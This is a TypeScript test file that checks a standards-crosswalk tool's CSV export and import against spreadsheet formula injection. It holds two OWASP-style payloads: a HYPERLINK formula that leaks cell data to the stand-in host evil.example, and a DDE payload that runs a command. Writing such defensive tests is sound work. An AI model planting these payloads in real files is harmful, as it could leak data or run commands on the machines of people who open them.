import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { everything } from '../../src/lib/coverage.ts';
import { loadFiles } from '../../src/lib/content.ts';
import { readContentDir } from '../../src/lib/node/content-dir.ts';
import { csvField, neutraliseFormulaCell, restoreFormulaCell } from '../../src/lib/csv.ts';
import { loadCrosswalk } from '../../src/lib/node/crosswalk.ts';
import { buildReport } from '../../src/lib/report/build.ts';
import { renderReportAs } from '../../src/lib/report/index.ts';
import { exportTables, renderCsvFiles } from '../../src/lib/spreadsheet/export.ts';
import { planImport } from '../../src/lib/spreadsheet/import.ts';
import { csvWorkbook, parseCsv } from '../../src/lib/spreadsheet/read.ts';
import { FIXTURES, TODAY } from '../helpers.ts';

/** Payloads from the OWASP CSV-injection page, and values that legitimately start the same way. */
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the full standard text")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0 opens a calculator in older spreadsheets";
const DASH = '- partial: only nursing students take part, other professions are not mentioned at all';
const PLUS = '+ one more setting than the previous edition, with learners of several professions';

/** The fixture content with hostile text in a rationale, a title, a body and an initiative name. */
function hostileContent(): string {
  const dir = mkdtempSync(join(tmpdir(), 'ipcle-csv-'));
  cpSync(FIXTURES, dir, { recursive: true });
  const edit = (path: string, from: string, to: string) => {
    const f = join(dir, path);
    const text = readFileSync(f, 'utf8');
    expect(text).toContain(from);
    writeFileSync(f, text.replace(from, to));
  };
  const q = (s: string) => JSON.stringify(s);
  edit(
    'standards/alpha-2020/a-1.md',
    '"The fixture standard requires a climate where learners can raise concerns without fear."',
    q(HYPERLINK),
  );
  edit('standards/alpha-2020/a-1.md', '"Safe Learning Climate"', q('@Safe Learning Climate'));
  edit('standards/alpha-2020/a-1.md', 'Fixture summary of A-1.', '-Fixture summary of A-1.');
  edit(
    'standards/beta-2024/b-2.md',
    '"Team practice placements give some learning with other professions in one setting."',
    q(DASH),
  );
  edit(
    'standards/beta-2024/b-2.md',
    '"Team-based practice experience could serve as evidence for this practice standard."',
    q(DDE),
  );
  edit('initiatives/shared-onboarding.md', '"Shared onboarding (fixture)"', q(PLUS));
  return dir;
}

/** A plain decimal number, such as a negative kappa: a spreadsheet reads it as a number, never a formula. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Every field of a CSV as a spreadsheet reads it; none but a plain number may start the way a formula does. */
function expectNoFormulaCells(csv: string, name: string) {
  const rows = parseCsv(csv, name).rows;
  expect(rows.length).toBeGreaterThan(1);
  for (const [r, row] of rows.entries())
    for (const [c, cell] of row.entries())
      expect(
        /^\s*[=+\-@\t\r]/.test(cell.text) && !PLAIN_NUMBER.test(cell.text),
        `${name} row ${r + 1} column ${c + 1}: ${cell.text}`,
      ).toBe(false);
}

describe('CSV formula injection', () => {
  it('the shared writer neutralises formula cells, and the shared reader is its exact inverse', () => {
    expect(csvField('=1+2')).toBe(`"'=1+2"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField(-3)).toBe('-3');
    // The gap report's kappa may be negative: exempt as a plain number, while number-led formulas are not.
    expect(['-0.3333', '-3'].every((v) => PLAIN_NUMBER.test(v))).toBe(true);
    expect(['-2+3', '-1e3', '-0.3|cmd', ' -1'].some((v) => PLAIN_NUMBER.test(v))).toBe(false);
    const values = ['=1', "'=1", "''=1", "'", "'plain", 'plain', '-', ' -x', '\tx', "' =1", 'a=b', '', '@'];
    for (const v of values) expect(restoreFormulaCell(neutraliseFormulaCell(v)), JSON.stringify(v)).toBe(v);
    // A value that merely starts with a quote is not changed by the reader unless the writer quoted it.
    expect(restoreFormulaCell("'plain")).toBe("'plain");
  });

  it('the gap report CSV (CLI, browser report builder and site download) neutralises every formula cell', async () => {
    process.env.CROSSWALK_DATA_VERSION = 'fixture';
    const { index } = loadCrosswalk(hostileContent(), { today: TODAY });
    const csv = (await renderReportAs(buildReport(index, everything(TODAY), TODAY), 'csv')) as string;
    expect(csv).toContain(`"'${HYPERLINK.replace(/"/g, '""')}"`);
    expect(csv).toContain(`"'${DASH}"`);
    expect(csv).toContain(`"'@Safe Learning Climate"`);
    expectNoFormulaCells(csv, 'gap-report.csv');
  });

  it('the spreadsheet export CSVs (npm run export and the site downloads) neutralise every formula cell', () => {
    const files = renderCsvFiles(exportTables(loadFiles(readContentDir(hostileContent()))));
    expect(files.get('initiatives.csv')).toContain(`"'${PLUS}"`);
    expect(files.get('standards.csv')).toContain(`"'-Fixture summary of A-1."`);
    for (const [name, text] of files) expectNoFormulaCells(text, name);
  });

  it('round-trips losslessly: an exported CSV imports as no change, and a quoted edit keeps its "-"', () => {
    const dir = hostileContent();
    const sources = readContentDir(dir);
    const files = renderCsvFiles(exportTables(loadFiles(sources)));
    const unchanged = planImport(
      sources,
      csvWorkbook(
        'export',
        [...files].map(([path, text]) => ({ path, text })),
      ),
      { today: TODAY },
    );
    expect(unchanged.diagnostics).toEqual([]);
    expect(unchanged.files).toEqual([]);

    const edited = files.get('mappings.csv')!.replace(`"'${DASH}"`, `"'- edited: ${DASH.slice(2)}"`);
    const plan = planImport(sources, csvWorkbook('edited', [{ path: 'mappings.csv', text: edited }]), {
      today: TODAY,
    });
    expect(plan.errors).toBe(0);
    expect(plan.files.flatMap((f) => f.changes).map((c) => [c.field, c.to])).toEqual([
      ['mappings[1].rationale', `- edited: ${DASH.slice(2)}`],
    ]);
    expect(plan.files[0]!.after).toContain(JSON.stringify(`- edited: ${DASH.slice(2)}`));
  });

  it('the importer refuses CSV cells that a spreadsheet would run: "=", "+" and "@" alike', () => {
    const dir = hostileContent();
    const sources = readContentDir(dir);
    const mappings = renderCsvFiles(exportTables(loadFiles(sources))).get('mappings.csv')!;
    for (const payload of ['=1+2', '+1+2', '@SUM(1+1)', ' =1+2']) {
      // The payload written raw, the way a hand-made hostile file would hold it.
      const raw = mappings.replace(/"'?- partial: [^"]*"/, `"${payload} is not a rationale anyone wrote"`);
      expect(raw).toContain(payload);
      const plan = planImport(sources, csvWorkbook('hostile', [{ path: 'mappings.csv', text: raw }]), {
        today: TODAY,
      });
      expect(plan.files).toEqual([]);
      expect(plan.diagnostics[0], payload).toMatchObject({
        rule: 'import-cell',
        message: 'the cell looks like a formula',
        path: expect.stringMatching(/^Mappings!J\d+ \(rationale\)$/),
      });
      expect(plan.diagnostics[0]!.fix).toContain('single quote');
    }
  });
});
